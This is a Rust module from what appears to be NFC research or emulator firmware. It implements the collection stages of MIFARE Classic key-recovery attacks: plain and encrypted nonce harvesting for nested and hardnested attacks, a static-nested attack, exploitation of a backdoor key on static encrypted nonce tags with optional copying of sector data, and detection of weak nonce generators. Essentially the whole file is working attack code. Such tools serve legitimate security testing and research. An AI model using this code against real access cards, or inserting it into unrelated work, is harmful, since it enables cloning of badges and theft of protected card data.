use byteorder::{BigEndian, ByteOrder};
use log::{debug, info, warn};

use super::calibration::{calibrate, Calibration, CalibrationConfig, CalibrationOutcome};
use super::mifare_classic::{AuthMode, AuthResult, AuthSession};
use super::nfc::crypto1::{decrypt_nonce, nonce_distance, prng_successor, rewind_nonce};
use super::nfc::emulator::{BlockStore, NONCE_REGION_BLOCK};
use super::nfc::iso14443a::PRE_AUTHENTICATION_LEADTIME;
use super::nfc::link_layer::LinkLayer;
use super::nfc::mifare_utils::{Key, KeyType, BLOCK_SIZE};
use super::nfc::utils::*;
use super::nonce_validator::{find_nonce, parity_error_syndrome, NonceCandidate};

/// Host payload size shared by all nonce buffers.
pub const NONCE_BUFFER_SIZE: usize = 512;
pub const PLAIN_NONCE_CAPACITY: usize = NONCE_BUFFER_SIZE / 4;
pub const ENCRYPTED_RECORD_SIZE: usize = 9;
pub const ENCRYPTED_RECORD_CAPACITY: usize =
    (NONCE_BUFFER_SIZE - ENCRYPTED_RECORD_SIZE) / ENCRYPTED_RECORD_SIZE + 1;
/// Equal masked nonces in a row that mark a static encrypted nonce tag.
pub const STATIC_NONCE_REPEATS: u8 = 5;
/// User sectors of a 1k card plus the advanced verification sector.
pub const STATIC_ENCRYPTED_SECTORS: u8 = 17;
/// Marks a filled half of a static encrypted slot.
pub const SLOT_MARKER: u8 = 0xAA;
/// Failed exchanges tolerated by a collection loop before it gives up.
pub const MAX_FAILED_ATTEMPTS: u16 = 32;

#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct NonceTarget {
    pub block: u8,
    pub key_type: KeyType,
}

#[derive(Debug, PartialEq, Eq, Clone)]
pub struct PlainNonces {
    pub cuid: u32,
    pub nonces: Vec<u32>,
}

impl PlainNonces {
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut buffer = vec![0u8; self.nonces.len() * 4];
        BigEndian::write_u32_into(&self.nonces, &mut buffer);
        buffer
    }
}

/// Two masked nonces of the same target with their wire parity.
#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct EncryptedNonceRecord {
    pub nt_enc: [u32; 2],
    /// High nibble: parity of the first nonce, low nibble: of the second.
    pub parity: u8,
}

impl EncryptedNonceRecord {
    pub fn new(first: (u32, u8), second: (u32, u8)) -> Self {
        Self {
            nt_enc: [first.0, second.0],
            parity: (first.1 & 0xF0) | (second.1 >> 4),
        }
    }

    pub fn to_bytes(&self) -> [u8; ENCRYPTED_RECORD_SIZE] {
        let mut record = [0u8; ENCRYPTED_RECORD_SIZE];
        BigEndian::write_u32_into(&self.nt_enc, &mut record[..8]);
        record[8] = self.parity;
        record
    }
}

#[derive(Debug, PartialEq, Eq, Clone)]
pub struct EncryptedNonces {
    pub cuid: u32,
    pub records: Vec<EncryptedNonceRecord>,
    pub observations: usize,
}

impl EncryptedNonces {
    pub fn to_bytes(&self) -> Vec<u8> {
        self.records.iter().flat_map(|r| r.to_bytes()).collect()
    }
}

#[derive(Debug, PartialEq, Eq, Clone, Copy, Default)]
pub struct StaticEncryptedOptions {
    /// Copy the sector contents into emulator memory on the way.
    pub with_data: bool,
    /// Predict nonces from a known key instead of the backdoor key.
    pub without_backdoor: bool,
}

#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct StaticEncryptedNonces {
    pub cuid: u32,
    /// Slot blocks completely written to emulator memory.
    pub sectors: u8,
}

/// Input of the offline nested key recovery.
#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct NestedNonces {
    pub block: u8,
    pub key_type: KeyType,
    pub cuid: u32,
    pub nt_a: u32,
    pub ks_a: u32,
    pub nt_b: u32,
    pub ks_b: u32,
}

#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct NestedRequest {
    pub block: u8,
    pub key_type: KeyType,
    pub key: Key,
    pub target_block: u8,
    pub target_key_type: KeyType,
}

#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub enum NestedOutcome {
    Nonces(NestedNonces),
    StaticNonce,
    NotVulnerable,
}

#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub enum NonceClassification {
    Normal,
    /// First authentications repeat their nonce.
    Static,
    /// Nested authentications answer the nonce of the first one.
    SuperStatic,
    /// Nested authentications repeat their masked nonce.
    StaticEncrypted,
}

/// Authentications used to tell static encrypted nonce tags apart.
#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct EncryptedNonceCheck {
    pub block: u8,
    pub key_type: KeyType,
    pub key: Key,
    pub nested_block: u8,
    pub nested_key_type: KeyType,
    pub nested_key: Key,
    /// Nested authentications, zero only selects and authenticates once.
    pub rounds: u8,
    /// Select and authenticate again before every nested round.
    pub reset: bool,
}

#[derive(Debug, PartialEq, Eq, Clone, Copy)]
pub struct NonceReport {
    pub cuid: u32,
    pub classification: NonceClassification,
    /// Static nonce, or the last nested nonce.
    pub nt: u32,
    /// Masked last nested nonce, zero for static classifications.
    pub nt_enc: u32,
    pub parity: u8,
}

/// Full select on the first round, fast reselect after that.
fn wake<L: LinkLayer>(session: &mut AuthSession<L>) -> NfcResult<u32> {
    match session.card() {
        Some(card) => {
            let cuid = card.cuid;
            session.reselect()?;
            Ok(cuid)
        }
        None => Ok(session.select()?.cuid),
    }
}

/// Count a failed exchange, `Err` once the loop should give up.
fn tolerate(failures: &mut u16, error: NfcError) -> NfcResult<()> {
    if error == NfcError::SelectFailure {
        return Err(error);
    }
    *failures += 1;
    if *failures > MAX_FAILED_ATTEMPTS {
        warn!("Giving up after {} failed exchanges", failures);
        return Err(error);
    }
    Ok(())
}

/// Collect the plain nonces of first authentication requests.
pub fn acquire_nonces<L: LinkLayer>(
    session: &mut AuthSession<L>,
    block: u8,
    key_type: KeyType,
    abort: &AbortSignal,
) -> NfcResult<Collected<PlainNonces>> {
    let mut nonces = PlainNonces {
        cuid: wake(session)?,
        nonces: Vec::with_capacity(PLAIN_NONCE_CAPACITY),
    };
    let mut failures = 0;
    let mut selected = true;

    while nonces.nonces.len() < PLAIN_NONCE_CAPACITY {
        if abort.is_set() {
            return Ok(Collected::interrupted(nonces, NfcError::Cancelled));
        }

        let result = (|| {
            if !selected {
                session.reselect()?;
            }
            session.request_nonce(block, key_type)
        })();
        selected = false;

        match result {
            Ok(answer) => nonces.nonces.push(answer.nt),
            Err(e) => {
                debug!("Nonce request failed: {}", e);
                if let Err(e) = tolerate(&mut failures, e) {
                    return Ok(Collected::interrupted(nonces, e));
                }
            }
        }
    }

    info!("Acquired {} plain nonces", nonces.nonces.len());
    Ok(Collected::complete(nonces))
}

/// Collect pairs of masked nonces for the given targets, round robin, for the
/// offline attack on hardened tags.
#[allow(clippy::too_many_arguments)]
pub fn acquire_encrypted_nonces<L: LinkLayer>(
    session: &mut AuthSession<L>,
    block: u8,
    key_type: KeyType,
    key: Key,
    targets: &[NonceTarget],
    capacity: usize,
    slow: bool,
    abort: &AbortSignal,
) -> NfcResult<Collected<EncryptedNonces>> {
    if targets.is_empty() || capacity == 0 {
        return Err(NfcError::InvalidArgument);
    }
    if capacity > ENCRYPTED_RECORD_CAPACITY {
        return Err(NfcError::AllocationFailure);
    }

    let mut collected = EncryptedNonces {
        cuid: 0,
        records: Vec::with_capacity(capacity),
        observations: 0,
    };
    let mut pending = None;
    let mut previous = vec![(None, 0u8); targets.len()];
    let mut failures = 0;

    while collected.records.len() < capacity {
        if abort.is_set() {
            return Ok(Collected::interrupted(collected, NfcError::Cancelled));
        }

        let index = collected.records.len() % targets.len();
        let target = targets[index];

        let result = wake(session).and_then(|cuid| {
            collected.cuid = cuid;
            if slow {
                session.delay(PRE_AUTHENTICATION_LEADTIME);
            }
            session.authenticate(block, key_type, key, AuthMode::First, None)?;
            session.request_nested_nonce(target.block, target.key_type, None)
        });

        let masked = match result {
            Ok(masked) => masked,
            Err(e) => {
                debug!("Encrypted nonce request failed: {}", e);
                if let Err(e) = tolerate(&mut failures, e) {
                    return Ok(Collected::interrupted(collected, e));
                }
                continue;
            }
        };
        collected.observations += 1;

        match pending.take() {
            None => pending = Some((masked.nt_enc, masked.parity)),
            Some(first) => collected.records.push(EncryptedNonceRecord::new(
                first,
                (masked.nt_enc, masked.parity),
            )),
        }

        let (last, repeats) = &mut previous[index];
        if *last == Some(masked.nt_enc) {
            *repeats += 1;
        } else {
            *repeats = 0;
        }
        *last = Some(masked.nt_enc);
        if *repeats >= STATIC_NONCE_REPEATS {
            info!("Static encrypted nonce {:08x} detected", masked.nt_enc);
            return Ok(Collected::interrupted(
                collected,
                NfcError::StaticNonceDetected,
            ));
        }
    }

    info!(
        "Acquired {} encrypted nonce records for {} targets",
        collected.records.len(),
        targets.len()
    );
    Ok(Collected::complete(collected))
}

/// Block of the first static encrypted slot sector, sector 16 maps to the
/// advanced verification blocks.
pub fn static_encrypted_block(sector: u8) -> u8 {
    if sector >= 16 {
        (sector + 16) * 4
    } else {
        sector * 4
    }
}

fn write_slot(slot: &mut [u8; BLOCK_SIZE], key_type: KeyType, nt: u32, nt_enc: u32, parity: u8) {
    let offset = key_type.index() * 8;
    BigEndian::write_u16(&mut slot[offset..offset + 2], (nt >> 16) as u16);
    slot[offset + 2] = parity_error_syndrome(nt_enc, parity);
    slot[offset + 3] = SLOT_MARKER;
    BigEndian::write_u32(&mut slot[offset + 4..offset + 8], nt_enc);
}

/// Collect one masked nonce per sector and key type of a static encrypted
/// nonce tag, with a prediction of the hidden nonce, into the nonce region
/// of emulator memory.
#[allow(clippy::too_many_arguments)]
pub fn acquire_static_encrypted_nonces<L: LinkLayer, S: BlockStore>(
    session: &mut AuthSession<L>,
    memory: &mut S,
    key: Key,
    first_block: u8,
    first_key_type: KeyType,
    options: StaticEncryptedOptions,
    abort: &AbortSignal,
) -> NfcResult<Collected<StaticEncryptedNonces>> {
    if options.with_data && options.without_backdoor {
        return Err(NfcError::InvalidArgument);
    }

    if options.without_backdoor {
        acquire_with_known_key(session, memory, key, first_block, first_key_type, abort)
    } else {
        acquire_with_backdoor(session, memory, key, options.with_data, abort)
    }
}

fn acquire_with_known_key<L: LinkLayer, S: BlockStore>(
    session: &mut AuthSession<L>,
    memory: &mut S,
    key: Key,
    first_block: u8,
    first_key_type: KeyType,
    abort: &AbortSignal,
) -> NfcResult<Collected<StaticEncryptedNonces>> {
    let cuid = session.select()?.cuid;
    session.authenticate(first_block, first_key_type, key, AuthMode::First, None)?;
    let masked = session.request_nested_nonce(first_block, first_key_type, None)?;
    let nt = decrypt_nonce(key.to_u64(), cuid, masked.nt_enc);

    session.reselect()?;
    let nt1 = session
        .authenticate(first_block, first_key_type, key, AuthMode::First, None)?
        .nt;
    let distance = nonce_distance(nt, nt1);
    debug!(
        "Reference block {}: nested {:08x}, first {:08x}, distance {}",
        first_block, nt, nt1, distance
    );

    let mut progress = StaticEncryptedNonces { cuid, sectors: 0 };
    for sector in 0..STATIC_ENCRYPTED_SECTORS {
        let block = static_encrypted_block(sector);
        let mut slot = [0u8; BLOCK_SIZE];

        for key_type in [KeyType::A, KeyType::B] {
            if abort.is_set() {
                return Ok(Collected::interrupted(progress, NfcError::Cancelled));
            }

            let result = (|| {
                let masked = session.request_nested_nonce(block, key_type, None)?;
                session.reselect()?;
                let nt1 = session
                    .authenticate(first_block, first_key_type, key, AuthMode::First, None)?
                    .nt;
                write_slot(
                    &mut slot,
                    key_type,
                    rewind_nonce(nt1, distance),
                    masked.nt_enc,
                    masked.parity,
                );
                memory.set_block(NONCE_REGION_BLOCK + sector as usize, &slot)
            })();

            if let Err(e) = result {
                warn!("Static encrypted nonce of block {} failed: {}", block, e);
                return Ok(Collected::interrupted(progress, e));
            }
        }
        progress.sectors += 1;
    }

    Ok(Collected::complete(progress))
}

fn acquire_with_backdoor<L: LinkLayer, S: BlockStore>(
    session: &mut AuthSession<L>,
    memory: &mut S,
    backdoor_key: Key,
    with_data: bool,
    abort: &AbortSignal,
) -> NfcResult<Collected<StaticEncryptedNonces>> {
    let mut progress = StaticEncryptedNonces {
        cuid: 0,
        sectors: 0,
    };

    for sector in 0..STATIC_ENCRYPTED_SECTORS {
        let block = static_encrypted_block(sector);
        let mut slot = [0u8; BLOCK_SIZE];

        for key_type in [KeyType::A, KeyType::B] {
            if abort.is_set() {
                return Ok(Collected::interrupted(progress, NfcError::Cancelled));
            }

            let result = (|| {
                let cuid = wake(session)?;
                progress.cuid = cuid;
                session.authenticate(
                    block,
                    key_type.backdoor(),
                    backdoor_key,
                    AuthMode::First,
                    None,
                )?;

                if with_data && key_type == KeyType::A {
                    let count = if block >= 128 { 8 } else { 4 };
                    for data_block in block..block + count {
                        let data = session.read_block(data_block)?;
                        memory.set_block(data_block as usize, &data)?;
                    }
                }

                let masked = session.request_nested_nonce(block, key_type.backdoor(), None)?;
                let nt = decrypt_nonce(backdoor_key.to_u64(), cuid, masked.nt_enc);

                session.reselect()?;
                session.authenticate(
                    block,
                    key_type.backdoor(),
                    backdoor_key,
                    AuthMode::First,
                    None,
                )?;
                let masked = session.request_nested_nonce(block, key_type, None)?;

                write_slot(&mut slot, key_type, nt, masked.nt_enc, masked.parity);
                memory.set_block(NONCE_REGION_BLOCK + sector as usize, &slot)
            })();

            if let Err(e) = result {
                warn!("Static encrypted nonce of block {} failed: {}", block, e);
                return Ok(Collected::interrupted(progress, e));
            }
        }
        progress.sectors += 1;
    }

    Ok(Collected::complete(progress))
}

/// One nested sample: the plain nonce of a first authentication and the
/// masked nonce of a nested request sent `extra_delay` ticks later.
fn nested_sample<L: LinkLayer>(
    session: &mut AuthSession<L>,
    request: &NestedRequest,
    calibration: &Calibration,
) -> NfcResult<(u32, u32, u8)> {
    session.halt()?;
    session.select()?;
    let first = session.authenticate(
        request.block,
        request.key_type,
        request.key,
        AuthMode::First,
        None,
    )?;
    let masked = session.request_nested_nonce(
        request.target_block,
        request.target_key_type,
        Some(first.tick.wrapping_add(calibration.extra_delay)),
    )?;
    Ok((first.nt, masked.nt_enc, masked.parity))
}

/// Recover two distinct nonces of the target and their keystreams. The
/// cached calibration is used, or measured first when there is none.
pub fn acquire_nested<L: LinkLayer>(
    session: &mut AuthSession<L>,
    request: &NestedRequest,
    calibration: &mut Option<Calibration>,
    config: &CalibrationConfig,
    abort: &AbortSignal,
) -> NfcResult<NestedOutcome> {
    let cached = *calibration;
    let window = match cached {
        Some(window) => window,
        None => {
            match calibrate(
                session,
                request.block,
                request.key_type,
                request.key,
                config,
                abort,
            )? {
                CalibrationOutcome::Calibrated(window) => {
                    *calibration = Some(window);
                    window
                }
                CalibrationOutcome::StaticNonce => return Ok(NestedOutcome::StaticNonce),
                CalibrationOutcome::NotVulnerable => return Ok(NestedOutcome::NotVulnerable),
            }
        }
    };

    let mut targets: Vec<(u32, u32)> = Vec::with_capacity(2);
    let mut failures = 0;

    while targets.len() < 2 {
        abort.check()?;

        let (nt1, nt_enc, parity) = match nested_sample(session, request, &window) {
            Ok(sample) => sample,
            Err(e) => {
                debug!("Nested sample failed: {}", e);
                tolerate(&mut failures, e)?;
                continue;
            }
        };

        match find_nonce(nt1, nt_enc, parity, window.min_distance, window.max_distance) {
            NonceCandidate::Unique { nt, .. } if targets.first().map(|t| t.0) == Some(nt) => {
                debug!("Nonce {:08x} dismissed, equal to the first one", nt);
            }
            NonceCandidate::Unique { nt, ks, distance } => {
                debug!("Nonce {:08x} valid at distance {}", nt, distance);
                targets.push((nt, ks));
                continue;
            }
            other => debug!("Nonce dismissed: {:?}", other),
        }

        failures += 1;
        if failures > MAX_FAILED_ATTEMPTS {
            warn!("No unambiguous nonce inside the calibrated window");
            return Err(NfcError::Timeout);
        }
    }

    let cuid = session.card().map(|c| c.cuid).ok_or(NfcError::SelectFailure)?;
    Ok(NestedOutcome::Nonces(NestedNonces {
        block: request.target_block,
        key_type: request.target_key_type,
        cuid,
        nt_a: targets[0].0,
        ks_a: targets[0].1,
        nt_b: targets[1].0,
        ks_b: targets[1].1,
    }))
}

fn static_nested_round<L: LinkLayer>(
    session: &mut AuthSession<L>,
    request: &NestedRequest,
) -> NfcResult<NestedNonces> {
    let NestedRequest {
        block,
        key_type,
        key,
        target_block,
        target_key_type,
    } = *request;

    // distances of the two nested nonces following a first one
    session.halt()?;
    session.select()?;
    let nt1 = session.authenticate(block, key_type, key, AuthMode::First, None)?.nt;
    let nt2 = session.authenticate(block, key_type, key, AuthMode::Nested, None)?.nt;
    let nt3 = session.authenticate(block, key_type, key, AuthMode::Nested, None)?.nt;
    let first_distance = nonce_distance(nt1, nt2);
    let second_distance = nonce_distance(nt1, nt3);

    session.halt()?;
    let cuid = session.select()?.cuid;
    let nt1 = session.authenticate(block, key_type, key, AuthMode::First, None)?.nt;
    let nt_a = prng_successor(nt1, first_distance);
    let ks_a = session
        .request_nested_nonce(target_block, target_key_type, None)?
        .nt_enc
        ^ nt_a;

    session.halt()?;
    session.select()?;
    let nt1 = session.authenticate(block, key_type, key, AuthMode::First, None)?.nt;
    session.authenticate(block, key_type, key, AuthMode::Nested, None)?;
    let nt_b = prng_successor(nt1, second_distance);
    let ks_b = session
        .request_nested_nonce(target_block, target_key_type, None)?
        .nt_enc
        ^ nt_b;

    Ok(NestedNonces {
        block: target_block,
        key_type: target_key_type,
        cuid,
        nt_a,
        ks_a,
        nt_b,
        ks_b,
    })
}

/// Nested attack on tags with static nonces: the target nonces follow the
/// first one at fixed distances, measured with the known key.
pub fn acquire_static_nested<L: LinkLayer>(
    session: &mut AuthSession<L>,
    request: &NestedRequest,
    abort: &AbortSignal,
) -> NfcResult<NestedNonces> {
    let mut failures = 0;
    loop {
        abort.check()?;
        match static_nested_round(session, request) {
            Ok(nonces) => return Ok(nonces),
            Err(e) => {
                debug!("Static nested round failed: {}", e);
                tolerate(&mut failures, e)?;
            }
        }
    }
}

/// Three plain nonces from freshly selected tags, any repetition marks a
/// static nonce tag.
pub fn detect_static_nonce<L: LinkLayer>(
    session: &mut AuthSession<L>,
    abort: &AbortSignal,
) -> NfcResult<NonceClassification> {
    let mut previous = None;
    let mut repeats = 0;

    for _ in 0..3 {
        abort.check()?;
        session.select()?;
        let nt = session.request_nonce(0, KeyType::A)?.nt;
        if previous == Some(nt) {
            repeats += 1;
        }
        previous = Some(nt);
    }

    if repeats > 0 {
        info!("Static nonce {:08x}", previous.unwrap_or_default());
        Ok(NonceClassification::Static)
    } else {
        Ok(NonceClassification::Normal)
    }
}

/// Repeat nested authentications with a known key and compare their nonces
/// with each other and with the first one.
///
/// A failed nested round forces a new first authentication. The tag nonces
/// are classified by the first repetition seen in this order: nested equal
/// to first, repeated first nonce, repeated masked nested nonce.
pub fn check_static_encrypted_nonce<L: LinkLayer>(
    session: &mut AuthSession<L>,
    check: &EncryptedNonceCheck,
    abort: &AbortSignal,
) -> NfcResult<NonceReport> {
    if check.rounds == 0 {
        let cuid = session.select()?.cuid;
        let first = session.authenticate(
            check.block,
            check.key_type,
            check.key,
            AuthMode::First,
            None,
        )?;
        return Ok(NonceReport {
            cuid,
            classification: NonceClassification::Normal,
            nt: first.nt,
            nt_enc: 0,
            parity: 0,
        });
    }

    let mut cuid = 0;
    let mut nt_first = None;
    let mut last: Option<AuthResult> = None;
    let mut need_first = true;
    let mut failures = 0;
    let mut first_repeats = 0;
    let mut nested_repeats = 0;
    let mut super_static = 0;

    for round in 0..check.rounds {
        abort.check()?;

        if need_first {
            if round > 0 {
                session.field_off();
            }
            cuid = session.select()?.cuid;
            let first = session.authenticate(
                check.block,
                check.key_type,
                check.key,
                AuthMode::First,
                None,
            )?;
            if nt_first == Some(first.nt) {
                first_repeats += 1;
            }
            nt_first = Some(first.nt);
            need_first = check.reset;
        }

        let nested = match session.authenticate(
            check.nested_block,
            check.nested_key_type,
            check.nested_key,
            AuthMode::Nested,
            None,
        ) {
            Ok(nested) => nested,
            Err(e) => {
                debug!("Nested round {} failed: {}", round, e);
                tolerate(&mut failures, e)?;
                need_first = true;
                continue;
            }
        };

        if nt_first == Some(nested.nt) {
            super_static += 1;
        }
        if last.map(|last| last.nt_enc) == Some(nested.nt_enc) {
            nested_repeats += 1;
        }
        last = Some(nested);
    }

    let nested = last.ok_or(NfcError::AuthFailure)?;
    let report = |classification, nt, nt_enc, parity| NonceReport {
        cuid,
        classification,
        nt,
        nt_enc,
        parity,
    };
    let report = if super_static > 0 {
        report(NonceClassification::SuperStatic, nested.nt, 0, 0)
    } else if first_repeats > 0 {
        report(NonceClassification::Static, nt_first.unwrap_or_default(), 0, 0)
    } else if nested_repeats > 0 {
        report(
            NonceClassification::StaticEncrypted,
            nested.nt,
            nested.nt_enc,
            nested.parity,
        )
    } else {
        report(
            NonceClassification::Normal,
            nested.nt,
            nested.nt_enc,
            nested.parity,
        )
    };
    info!("Nonce classification {:?}, nt={:08x}", report.classification, report.nt);
    Ok(report)
}
